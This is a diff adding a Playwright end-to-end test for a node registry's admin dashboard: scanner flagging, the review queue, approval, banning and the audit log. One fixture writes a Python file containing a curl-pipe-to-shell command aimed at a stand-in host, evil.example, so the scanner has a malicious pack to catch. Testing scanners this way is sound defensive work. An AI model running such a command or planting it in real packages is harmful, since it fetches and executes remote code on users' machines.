@@ -1,0 +1,206 @@
+import AxeBuilder from '@axe-core/playwright';
+import { expect as baseExpect, test, type APIRequestContext, type Page } from '@playwright/test';
+import { strToU8, zipSync } from 'fflate';
+
+// The admin dashboard against the real server: a pack published exactly as comfy-cli does is
+// flagged by the scanner, shows up in the review queue with its findings, is approved and becomes
+// installable; then the node is banned from the nodes table and leaves search.
+
+// The dashboard hydrates and fetches after load: allow for a busy machine.
+const expect = baseExpect.configure({ timeout: 20_000 });
+
+const EMULATOR = `http://${process.env['FIREBASE_AUTH_EMULATOR_HOST'] ?? '127.0.0.1:9099'}`;
+const PROJECT = 'demo-nodeyard';
+/** One shared password for every account this spec makes (the admin address is reused across runs). */
+const PASSWORD = 'correct-horse-battery';
+const ADMIN_EMAIL = 'e2e-admin@nodeyard.test';
+const stamp = () => `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6).toString(36)}`;
+
+async function emulator<T>(path: string, body: unknown, asAdmin = false): Promise<T> {
+  const response = await fetch(`${EMULATOR}${path}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', ...(asAdmin ? { authorization: 'Bearer owner' } : {}) },
+    body: JSON.stringify(body),
+  });
+  const json = (await response.json()) as T & { error?: { message: string } };
+  if (!response.ok) throw new Error(json.error?.message ?? `emulator ${response.status}`);
+  return json;
+}
+
+/**
+ * Signs an address up (or in, when it already exists) and returns an ID token. A new account is
+ * marked verified when asked; an existing one is left alone, since updating an account ends the
+ * sessions other browsers hold for it.
+ */
+async function account(email: string, verified = false): Promise<string> {
+  const signInBody = { email, password: PASSWORD, returnSecureToken: true };
+  try {
+    const { localId } = await emulator<{ localId: string }>(
+      '/identitytoolkit.googleapis.com/v1/accounts:signUp?key=k',
+      signInBody,
+    );
+    if (verified) {
+      await emulator(
+        `/identitytoolkit.googleapis.com/v1/projects/${PROJECT}/accounts:update`,
+        { localId, emailVerified: true },
+        true,
+      );
+    }
+  } catch (error) {
+    if (!String(error).includes('EMAIL_EXISTS')) throw error;
+  }
+  const { idToken } = await emulator<{ idToken: string }>(
+    '/identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=k',
+    signInBody,
+  );
+  return idToken;
+}
+
+async function signIn(page: Page, email: string, path: string) {
+  await page.goto(path);
+  await expect(page).toHaveURL(/\/auth\/login\?fromUrl=/);
+  await page.locator('input[type="email"]').fill(email);
+  await page.locator('input[type="password"]').fill(PASSWORD);
+  await page.locator('form button[type="submit"]').click();
+  await expect(page).toHaveURL(path);
+}
+
+/** A pack the scanner must flag: it pipes a download into a shell. */
+function maliciousZip(): Buffer {
+  return Buffer.from(
+    zipSync({
+      '__init__.py': strToU8('from .nodes import NODE_CLASS_MAPPINGS\n'),
+      'nodes.py': strToU8(
+        'import os\nos.system("curl -s http://evil.example/p.sh | sh")\n\nclass Boom:\n    pass\n\nNODE_CLASS_MAPPINGS = {"Boom": Boom}\n',
+      ),
+    }),
+  );
+}
+
+/** A publisher owned by a fresh account, a token, and a flagged version published like comfy-cli. */
+async function publishFlagged(request: APIRequestContext): Promise<{ nodeId: string; publisherId: string }> {
+  const token = await account(`admin-pub-${stamp()}@example.test`);
+  const auth = { authorization: `Bearer ${token}` };
+  const publisherId = `adm-${stamp()}`;
+  expect(
+    (await request.post('/api/publishers', { headers: auth, data: { id: publisherId, name: 'Admin Test' } })).status(),
+  ).toBe(201);
+  const created = await request.post(`/api/publishers/${publisherId}/tokens`, { headers: auth, data: { name: 'ci' } });
+  const { token: pat } = (await created.json()) as { token: string };
+  const nodeId = `adm-node-${stamp()}`;
+  const published = await request.post(`/api/publishers/${publisherId}/nodes/${nodeId}/versions`, {
+    data: {
+      personal_access_token: pat,
+      node: {
+        id: nodeId,
+        name: `Admin Test ${nodeId}`,
+        description: 'flag me',
+        repository: `https://github.com/example/${nodeId}`,
+      },
+      node_version: { version: '1.0.0', dependencies: [] },
+    },
+  });
+  expect(published.status()).toBe(201);
+  const { signedUrl } = (await published.json()) as { signedUrl: string };
+  expect(
+    (await request.put(signedUrl, { headers: { 'content-type': 'application/zip' }, data: maliciousZip() })).status(),
+  ).toBe(200);
+  return { nodeId, publisherId };
+}
+
+test.describe('admin dashboard', () => {
+  // The tests share the fixed admin account: one at a time.
+  test.describe.configure({ mode: 'serial' });
+
+  test('is personal and shows a 403 view to a signed-in non-admin', async ({ page, request }) => {
+    const head = await request.get('/en/admin');
+    expect(head.headers()['cache-control']).toBe('private, no-store');
+    const email = `not-admin-${stamp()}@example.test`;
+    await account(email);
+    await signIn(page, email, '/en/admin');
+    await expect(page.getByTestId('admin-forbidden')).toBeVisible();
+    await expect(page.getByText('Administrators only')).toBeVisible();
+  });
+
+  test('flagged version → review queue with findings → approve → installable; ban → gone from search', async ({
+    page,
+    request,
+  }) => {
+    test.setTimeout(150_000);
+    const adminToken = await account(ADMIN_EMAIL, true);
+    const { nodeId } = await publishFlagged(request);
+    // The scan runs in the server's job worker about a second after the upload.
+    await expect
+      .poll(
+        async () => {
+          const r = await request.get(`/api/admin/review-queue?nodeId=${nodeId}`, {
+            headers: { authorization: `Bearer ${adminToken}` },
+          });
+          const body = (await r.json()) as { items?: { version: { status: string } }[] };
+          return body.items?.[0]?.version.status;
+        },
+        { timeout: 30_000 },
+      )
+      .toBe('NodeVersionStatusFlagged');
+    expect((await request.get(`/api/nodes/${nodeId}/install`)).status()).toBe(404);
+
+    await signIn(page, ADMIN_EMAIL, `/en/admin/review?nodeId=${nodeId}`);
+    const item = page.getByTestId('review-item');
+    await expect(item).toHaveCount(1);
+    await expect(item).toContainText(`${nodeId}@1.0.0`);
+    await expect(item).toContainText('nodes.py');
+    await expect(item).toContainText('curl');
+    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
+
+    await item.getByLabel('Reason').fill('Reviewed: test fixture');
+    await item.getByRole('button', { name: 'Approve', exact: true }).click();
+    await expect(page.getByTestId('undo-bar')).toContainText('Approved 1 version(s).');
+    await expect(page.getByText('Nothing to review.', { exact: false })).toBeVisible();
+    const install = await request.get(`/api/nodes/${nodeId}/install`);
+    expect(install.status()).toBe(200);
+    expect(await install.json()).toMatchObject({ version: '1.0.0', status: 'NodeVersionStatusActive' });
+
+    // The node is searchable, then banned from the nodes table.
+    const inSearch = async () =>
+      (
+        (await (await request.get(`/api/nodes/search?search=${nodeId}`)).json()) as { nodes: { id: string }[] }
+      ).nodes.some((n) => n.id === nodeId);
+    await expect.poll(inSearch, { timeout: 15_000 }).toBe(true);
+    await page.goto(`/en/admin/nodes?search=${nodeId}`);
+    const row = page.getByTestId('admin-node-row');
+    await expect(row).toHaveCount(1);
+    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
+    page.once('dialog', (dialog) => void dialog.accept());
+    await row.getByRole('button', { name: `Ban ${nodeId}` }).click();
+    await expect(page.getByTestId('toast-success').filter({ hasText: `Node ${nodeId} banned.` })).toBeVisible();
+    await expect(row).toContainText('Banned');
+    await expect.poll(inSearch, { timeout: 15_000 }).toBe(false);
+    await page.goto(`/en/nodes/${nodeId}`);
+    await expect(page.getByText('This pack is banned')).toBeVisible();
+
+    // Every action is in the audit log.
+    await page.goto(`/en/admin/audit?target_id=${nodeId}`);
+    await expect(page.getByTestId('audit-row').first()).toContainText('node.ban');
+  });
+
+  test('screenshots: review queue and overview in en, ar, zh, light and dark', async ({ page }) => {
+    test.setTimeout(120_000);
+    await account(ADMIN_EMAIL, true);
+    await signIn(page, ADMIN_EMAIL, '/en/admin');
+    for (const lang of ['en', 'ar', 'zh']) {
+      for (const theme of ['light', 'dark']) {
+        await page.evaluate((value) => localStorage.setItem('registry-theme', value), theme);
+        await page.goto(`/${lang}/admin`);
+        await expect(page.locator('#admin-overview-title')).toBeVisible();
+        await expect(page.getByRole('status'))
+          .toHaveCount(0, { timeout: 10_000 })
+          .catch(() => undefined);
+        await page.screenshot({ path: `test-results/admin-overview-${lang}-${theme}.png`, fullPage: true });
+        await page.goto(`/${lang}/admin/nodes`);
+        await expect(page.getByTestId('admin-node-row').first()).toBeVisible();
+        await page.screenshot({ path: `test-results/admin-nodes-${lang}-${theme}.png`, fullPage: true });
+        if (theme === 'dark') expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
+      }
+    }
+  });
+});
